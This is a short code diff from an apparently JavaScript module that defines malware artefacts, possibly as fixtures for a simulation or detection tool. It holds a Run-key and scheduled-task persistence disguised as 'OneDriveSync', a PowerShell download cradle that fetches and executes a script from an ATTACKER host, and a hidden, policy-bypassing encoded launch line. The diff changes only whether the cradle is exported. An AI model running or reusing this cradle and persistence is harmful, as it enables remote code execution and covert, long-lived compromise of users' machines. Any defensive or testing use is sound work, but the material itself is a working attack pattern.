@@ -13,7 +13,7 @@ export const HKCU_RUN = { name: 'OneDriveSync', data: `"${ROAMING_COPY}" /backgr
 
 export const TASK = { name: 'OneDriveSyncTask', guid: '{6F2B9C1A-7D43-4E55-9A0E-3B61C58F0D27}', author: 'WIN-PC\\updsvc' }
 
-const POWERSHELL_SCRIPT = `IEX (New-Object Net.WebClient).DownloadString('http://${ATTACKER}/a.ps1')`
+export const POWERSHELL_SCRIPT = `IEX (New-Object Net.WebClient).DownloadString('http://${ATTACKER}/a.ps1')`
 const ENCODED = Buffer.from(POWERSHELL_SCRIPT, 'utf16le').toString('base64')
 export const POWERSHELL_LINE = `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc ${ENCODED}`
 
